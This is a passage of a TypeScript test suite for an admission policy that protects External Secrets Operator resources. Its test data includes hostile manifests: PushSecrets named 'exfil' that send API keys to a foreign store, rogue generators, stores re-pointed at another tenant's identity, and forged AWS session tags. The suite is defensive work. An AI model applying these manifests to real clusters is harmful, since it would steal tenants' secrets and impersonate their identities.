        expectDenied(m(), steal, NS);
      });
      test('an env Secret\'s ExternalSecret reading that generator through dataFrom[].sourceRef.generatorRef (runtime/esutils/resolvers/generator.go: GeneratorRef)', () => {
        const base = esOf('app-env-default');
        const viaGenerator = { ...base, spec: { ...base.spec, dataFrom: [{ sourceRef: { generatorRef: { apiVersion: GEN, kind: 'VaultDynamicSecret', name: 'steal' } } }] } };
        expectAttackStopped(m(), [
          { object: steal, namespace: NS, mustDeny: true },
          { object: viaGenerator, namespace: NS, operation: 'UPDATE', oldObject: base, mustDeny: true },
        ]);
      });
      test('an ExternalSecret into any Secret reading a generator that is not the library\'s own, namespaced or a ClusterGenerator (runtime/esutils/resolvers/generator.go: getGenerator)', () => {
        for (const generatorRef of [
          { apiVersion: GEN, kind: 'VaultDynamicSecret', name: 'steal' },
          { apiVersion: GEN, kind: 'ClusterGenerator', name: 'borrow' },
          { apiVersion: GEN, kind: 'Password', name: 'not-the-librarys' },
          { apiVersion: GEN, kind: 'STSSessionToken', name: 'x' },
        ]) {
          const loot = es('loot', { refreshInterval: '1h', target: { name: 'loot' }, dataFrom: [{ sourceRef: { generatorRef } }] });
          expect([generatorRef, verdictOf(m(), { object: loot, namespace: NS })]).toEqual([generatorRef, DENIED]);
        }
      });
      test('a generator in the namespace that is not one of the library\'s own Password generators (any generator kind the controller runs: generator_types.go)', () => {
        expectDenied(m(), { apiVersion: GEN, kind: 'Password', metadata: { name: 'not-the-librarys' }, spec: { length: 8, symbols: 0, allowRepeat: true, noUpper: true } }, NS);
        expectDenied(m(), { apiVersion: GEN, kind: 'STSSessionToken', metadata: { name: 'x' }, spec: { region: 'eu-west-1', role: ACME_ROLE } }, NS);
        expectDenied(m(), { apiVersion: GEN, kind: 'Fake', metadata: { name: 'x' }, spec: { data: { OPENAI_API_KEY: 'attacker-chosen' } } }, NS);
        // One of the library's own names, with another body.
        const password = m().find(x => x.kind === 'Password');
        expectDenied(m(), { apiVersion: GEN, kind: 'VaultDynamicSecret', metadata: { name: password.metadata.name }, spec: steal.spec }, NS);
      });

      // Each store name is bound to its own identity: pool default's store re-pointed at pool tenant-acme's.
      const acmeIdentity = (current: any): any => {
        const p = JSON.parse(JSON.stringify(current.spec.provider));
        if (p.aws?.auth?.jwt) p.aws.auth.jwt.serviceAccountRef.name = SA.acme;
        if (p.aws?.role) p.aws.role = ACME_ROLE;
        if (p.vault) { p.vault.auth.kubernetes.role = VAULT_ROLE; p.vault.auth.kubernetes.serviceAccountRef.name = SA.acme; }
        if (p.gcpsm) p.gcpsm.auth.workloadIdentity.serviceAccountRef.name = SA.acme;
        if (p.azurekv) p.azurekv.serviceAccountRef.name = SA.acme;
        return p;
      };
      test('UPDATE of pool default\'s own SecretStore (noxus-pool-default) to authenticate as pool tenant-acme\'s identity (the store\'s provider is read at each reconcile: secretstore/common.go: validateStore; client_manager.go: Get)', () => {
        const current = own('noxus-pool-default');
        expect(current).toBeDefined();
        const updated = { ...current, spec: { ...current.spec, provider: acmeIdentity(current) } };
        expectDenied(m(), updated, NS, 'UPDATE', current);
        expectDenied(m(), updated, NS, 'CREATE');
      });
      test('UPDATE of pool default\'s own SecretStore naming only one of tenant-acme\'s identities: its Vault role with its own ServiceAccount, its ServiceAccount with its own role, or an added role (vault/auth_kubernetes.go; aws/auth/auth.go: createConfiguration)', () => {
        const current = own('noxus-pool-default');
        const p = current.spec.provider;
        const variants: any[] = [];
        if (p.vault) {
          variants.push({ vault: { ...p.vault, auth: { kubernetes: { ...p.vault.auth.kubernetes, role: VAULT_ROLE } } } });
          variants.push({ vault: { ...p.vault, auth: { kubernetes: { ...p.vault.auth.kubernetes, serviceAccountRef: { ...p.vault.auth.kubernetes.serviceAccountRef, name: SA.acme } } } } });
          variants.push({ vault: { ...p.vault, auth: { jwt: { path: 'kubernetes', role: VAULT_ROLE, kubernetesServiceAccountToken: { serviceAccountRef: { name: SA.acme }, audiences: ['vault'] } } } } });
        }
        if (p.aws) {
          variants.push({ aws: { ...p.aws, role: ACME_ROLE } });
          variants.push({ aws: { ...p.aws, additionalRoles: [ACME_ROLE] } });
          // IRSA only: with EKS Pod Identity the namespace has no store ServiceAccounts (ESO uses its own).
          if (p.aws.auth?.jwt) variants.push({ aws: { ...p.aws, auth: { jwt: { serviceAccountRef: { name: SA.acme } } } } });
        }
        if (p.gcpsm) variants.push({ gcpsm: { ...p.gcpsm, auth: { workloadIdentityFederation: { serviceAccountRef: { name: SA.acme }, audience: 'x' } } } });
        if (p.azurekv) variants.push({ azurekv: { ...p.azurekv, serviceAccountRef: { name: SA.acme } } });
        expect(variants.length).toBeGreaterThan(0);
        for (const provider of variants) {
          expect([provider, verdictOf(m(), { object: { ...current, spec: { ...current.spec, provider } }, namespace: NS, operation: 'UPDATE', oldObject: current })]).toEqual([provider, DENIED]);
        }
      });
      test('UPDATE of the platform\'s own store (noxus-platform) to a pool\'s identity, and of a pool\'s store to the platform\'s', () => {
        const platformStore = own('noxus-platform');
        const acmeStore = own('noxus-pool-tenant-acme');
        expectDenied(m(), { ...platformStore, spec: { ...platformStore.spec, provider: acmeIdentity(platformStore) } }, NS, 'UPDATE', platformStore);
        expectDenied(m(), { ...acmeStore, spec: { ...acmeStore.spec, provider: platformStore.spec.provider } }, NS, 'UPDATE', acmeStore);
      });
      test('a second SecretStore with another name that authenticates as a platform store\'s identity (the identity is the store\'s provider block, whatever the store\'s name)', () => {
        for (const name of ['noxus-pool-default', 'noxus-pool-tenant-acme', 'noxus-platform']) {
          const copy = { ...own(name), metadata: { name: 'sneaky' } };
          expect([name, verdictOf(m(), { object: copy, namespace: NS })]).toEqual([name, DENIED]);
        }
      });
      test('a ClusterSecretStore or another store kind named like a platform store (noxus-pool-tenant-acme as ClusterSecretStore) with a platform identity', () => {
        const acme = own('noxus-pool-tenant-acme');
        expectDenied(m(), { ...acme, kind: 'ClusterSecretStore', metadata: { name: 'noxus-pool-tenant-acme' } }, '');
      });

      test('PushSecret pushing an env Secret out to a store (pushsecret_controller.go: resolveSecrets by selector.secret.name, then PushSecretToProviders)', () => {
        for (const secret of ['app-env-tenant-acme', 'app-env', 'app-env-plugin-server-api-key']) {
          const push = {
            apiVersion: 'external-secrets.io/v1alpha1', kind: 'PushSecret', metadata: { name: 'exfil' },
            spec: { secretStoreRefs: [{ name: 'their-cluster-store', kind: 'ClusterSecretStore' }], selector: { secret: { name: secret } }, data: [{ match: { secretKey: 'OPENAI_API_KEY', remoteRef: { remoteKey: 'loot' } } }] },
          };
          expect([secret, verdictOf(m(), { object: push, namespace: NS })]).toEqual([secret, DENIED]);
        }
      });
      test('PushSecret selecting env Secrets by label, or reading one through its template.templateFrom (pushsecret_controller.go: resolveSecrets, selector.secret.selector; pushsecret_controller_template.go: MergeTemplateFrom)', () => {
        expectDenied(m(), {
          apiVersion: 'external-secrets.io/v1alpha1', kind: 'PushSecret', metadata: { name: 'exfil' },
          spec: { secretStoreRefs: [{ name: 'noxus-pool-default' }], selector: { secret: { selector: { matchLabels: {} } } }, dataTo: [{ storeRef: { name: 'noxus-pool-default' } }] },
        }, NS);
        expectDenied(m(), {
          apiVersion: 'external-secrets.io/v1alpha1', kind: 'PushSecret', metadata: { name: 'exfil' },
          spec: {
            secretStoreRefs: [{ name: 'noxus-pool-default' }], selector: { secret: { name: 'harmless' } },
            template: { templateFrom: [{ target: 'Data', secret: { name: 'app-env-tenant-acme', items: [{ key: 'OPENAI_API_KEY' }] } }] },
            data: [{ match: { secretKey: 'OPENAI_API_KEY', remoteRef: { remoteKey: 'noxus/workers/OPENAI_API_KEY' } } }],
          },
        }, NS);
      });
      test('ClusterPushSecret pushing an env Secret out of the platform\'s namespace (clusterpushsecret_controller.go: creates a PushSecret in each namespace its namespaceSelectors match)', () => {
        expectDenied(m(), {
          apiVersion: 'external-secrets.io/v1alpha1', kind: 'ClusterPushSecret', metadata: { name: 'exfil' },
          spec: {
            namespaceSelectors: [{ matchLabels: { 'kubernetes.io/metadata.name': NS } }],
            pushSecretSpec: { secretStoreRefs: [{ name: 'their-cluster-store', kind: 'ClusterSecretStore' }], selector: { secret: { name: 'app-env-tenant-acme' } }, data: [{ match: { secretKey: 'OPENAI_API_KEY', remoteRef: { remoteKey: 'loot' } } }] },
          },
        }, '');
      });
    });

    if (pair.aws) {
      describe('anywhere', () => {
        // aws/provider.go: newClient: with sessionTagsPolicy None (the default) the store's sessionTags go to STS as written;
        // IAM compares tag keys case-insensitively, so EsoNamespace is esoNamespace to a trust policy's aws:PrincipalTag.
        const forged: [string, object][] = [
          ['sessionTags esoNamespace (aws/auth/auth.go: createConfiguration -> setAssumeRoleOptionFn)', { sessionTags: [{ key: 'esoNamespace', value: NS }] }],
          ['sessionTags EsoNamespace, another case (IAM tag keys are case-insensitive)', { sessionTags: [{ key: 'EsoNamespace', value: NS }] }],
          ['sessionTags ESOSTORENAME', { sessionTags: [{ key: 'ESOSTORENAME', value: 'noxus-pool-tenant-acme' }] }],
          ['sessionTags esoStoreKind with sessionTagsPolicy None', { sessionTagsPolicy: 'None', sessionTags: [{ key: 'esoStoreKind', value: 'SecretStore' }] }],
          ['customSessionTags EsoNamespace with sessionTagsPolicy Custom (aws/provider.go: buildSessionTags merges customTags, then sets esoNamespace)', { sessionTagsPolicy: 'Custom', customSessionTags: { EsoNamespace: NS } }],
          ['transitiveTagKeys esoNamespace (aws/auth/auth.go: setAssumeRoleOptionFn)', { sessionTags: [{ key: 'esoNamespace', value: NS }], transitiveTagKeys: ['esoNamespace'] }],
        ];
        test.each(forged)('a store that sets ESO\'s session tags itself: %s', (_t, tags) => {
          for (const [kind, ns] of [['SecretStore', 'attacker'], ['SecretStore', NS], ['ClusterSecretStore', '']] as const) {
            const forgedStore = store(kind, { aws: { service: 'SecretsManager', region: 'eu-west-1', role: ROLE('their-own'), ...tags } });
            expect([kind, ns, verdictOf(m(), { object: forgedStore, namespace: ns })]).toEqual([kind, ns, DENIED]);
          }
        });
      });
    }

    describe('the legitimate side', () => {
      test('every ESO object the chart writes (stores, ExternalSecrets with their templateFrom of their own companion Secrets, generated-value ExternalSecrets, Password generators) is matched and admitted on CREATE and UPDATE', () => {
        const eso = m().filter(x => /^(generators\.)?external-secrets\.io\//.test(x.apiVersion));
        expect(eso.map(x => x.kind)).toEqual(expect.arrayContaining(['SecretStore', 'ExternalSecret', 'Password']));
        expect(eso.some(x => x.spec?.target?.template?.templateFrom?.some((t: any) => t.secret))).toBe(true);
        for (const x of eso) {
          expectAdmitted(m(), x, NS);
          expectAdmitted(m(), x, NS, 'UPDATE', x);
        }
      });
      test('the chart\'s other objects are not the policy\'s business (not matched)', () => {
        for (const x of m().filter(o => ['ServiceAccount', 'Role', 'RoleBinding'].includes(o.kind))) {
          expect([x.kind, x.metadata.name, verdictOf(m(), { object: x, namespace: NS })]).toEqual([x.kind, x.metadata.name, { allowed: true, notMatched: true }]);
        }
      });
      test('an unrelated team\'s own stores, ExternalSecrets, generators and PushSecrets in namespace attacker, with its own identities and keys, are admitted', () => {
        const theirs: [any, string][] = [
          [store('SecretStore', { aws: { service: 'SecretsManager', region: 'eu-west-1', role: ROLE('team-b-reader'), auth: { jwt: { serviceAccountRef: { name: 'team-b' } } } } }, 'team-b'), 'attacker'],
          [store('SecretStore', { aws: { service: 'SecretsManager', region: 'eu-west-1', sessionTagsPolicy: 'Simple', role: ROLE('team-b-reader') } }, 'team-b-pod'), 'attacker'],
          [store('SecretStore', { vault: { server: VAULT, path: 'secret', version: 'v2', auth: { kubernetes: { mountPath: 'kubernetes', role: 'team-b', serviceAccountRef: { name: 'team-b', audiences: ['vault'] } } } } }, 'team-b-vault'), 'attacker'],
          [store('SecretStore', { vault: { server: VAULT, auth: { jwt: { path: 'jwt', role: 'team-b', kubernetesServiceAccountToken: { serviceAccountRef: { name: 'team-b' } } } } } }, 'team-b-jwt'), 'attacker'],
          [store('SecretStore', { gcpsm: { projectID: 'team-b', auth: { workloadIdentity: { serviceAccountRef: { name: 'team-b' } } } } }, 'team-b-gcp'), 'attacker'],
          [store('SecretStore', { gcpsm: { projectID: 'team-b', auth: { workloadIdentityFederation: { serviceAccountRef: { name: 'team-b' }, audience: 'x' } } } }, 'team-b-wif'), 'attacker'],
          [store('SecretStore', { azurekv: { vaultUrl: 'https://team-b.vault.azure.net/', authType: 'WorkloadIdentity', serviceAccountRef: { name: 'team-b' } } }, 'team-b-az'), 'attacker'],
          [store('ClusterSecretStore', { aws: { service: 'SecretsManager', region: 'eu-west-1', auth: { jwt: { serviceAccountRef: { name: 'team-b', namespace: 'team-b' } } } } }, 'team-b-cluster'), ''],
          [store('ClusterSecretStore', { vault: { server: VAULT, auth: { tokenSecretRef: { name: 'vault-token', namespace: 'team-b', key: 'token' } } } }, 'team-b-token'), ''],
          [read('team-b/token', { name: 'team-b', kind: 'SecretStore' }), 'attacker'],
          [es('team-b-find', { secretStoreRef: { name: 'team-b' }, target: { name: 'team-b-find' }, dataFrom: [{ find: { path: 'team-b/', name: { regexp: '.*' } } }, { extract: { key: 'team-b/bundle' } }] }), 'attacker'],
          [es('team-b-tpl', { secretStoreRef: { name: 'team-b' }, target: { name: 'team-b-tpl', template: { engineVersion: 'v2', templateFrom: [{ target: 'Data', secret: { name: 'team-b-base', items: [{ key: 'K' }] } }] } }, data: [] }), 'attacker'],
          [es('team-b-gen', { target: { name: 'team-b-gen' }, dataFrom: [{ sourceRef: { generatorRef: { apiVersion: GEN, kind: 'Password', name: 'team-b' } } }] }), 'attacker'],
          [{ apiVersion: GEN, kind: 'Password', metadata: { name: 'team-b' }, spec: { length: 32, symbols: 0, allowRepeat: true, noUpper: false } }, 'attacker'],
          [{ apiVersion: GEN, kind: 'VaultDynamicSecret', metadata: { name: 'team-b' }, spec: { path: 'database/creds/team-b', provider: { server: VAULT, auth: { kubernetes: { mountPath: 'kubernetes', role: 'team-b', serviceAccountRef: { name: 'team-b' } } } } } }, 'attacker'],
          [{ apiVersion: GEN, kind: 'STSSessionToken', metadata: { name: 'team-b' }, spec: { region: 'eu-west-1', role: ROLE('team-b-reader') } }, 'attacker'],
          [{ apiVersion: 'external-secrets.io/v1alpha1', kind: 'PushSecret', metadata: { name: 'team-b' }, spec: { secretStoreRefs: [{ name: 'team-b' }], selector: { secret: { name: 'team-b-own' } }, data: [{ match: { secretKey: 'K', remoteRef: { remoteKey: 'team-b/k' } } }] } }, 'attacker'],
        ];
        for (const [object, ns] of theirs) expectAdmitted(m(), object, ns);
      });
    });
  });
}

// RemoteKeyLayout.PER_STORE: a scope's secret is a key of its own ('noxus/platform', 'noxus/workers'),
// not under the per-key folders ('noxus/platform/'); the guard knows them as platform keys too.
describe('one secret per scope (RemoteKeyLayout.PER_STORE): reading a scope secret from another namespace', () => {
  for (const pair of PAIRS) {
    const contract = new SecretsContract({ blueprint: platform(), backend: pair.backend(), identity: pair.identity(), namespace: NS, remoteKeys: { layout: RemoteKeyLayout.PER_STORE } });
    const chart = Testing.synth(new NoxusPlatformSecrets(new NoxusApp(), 'secrets', { contract }));
    const scopeKeys = contract.remoteSecrets.map(s => s.key);
    test(`${pair.id}: ${scopeKeys.join(', ')}, as written, in upper case and as an ARN, by data and by extract`, () => {
      // The chart's own ExternalSecrets read exactly these keys.
      expect(chart.filter(o => o.kind === 'ExternalSecret').flatMap(o => (o.spec.dataFrom ?? []).map((f: any) => f.extract.key)).sort()).toEqual([...scopeKeys].sort());
      const spellings = scopeKeys.flatMap(key => [key, key.toUpperCase(), ...(pair.aws ? [`arn:aws:secretsmanager:eu-west-1:${ACCOUNT}:secret:${key}-AbCdEf`, `/${key}`] : [])]);
      for (const key of spellings) {
        expect([key, verdictOf(chart, { object: read(key), namespace: 'attacker' })]).toEqual([key, DENIED]);
        expect([key, verdictOf(chart, { object: es('loot', { secretStoreRef: { name: 'broad', kind: 'ClusterSecretStore' }, dataFrom: [{ extract: { key } }] }), namespace: 'attacker' })]).toEqual([key, DENIED]);
      }
    });
  }
});
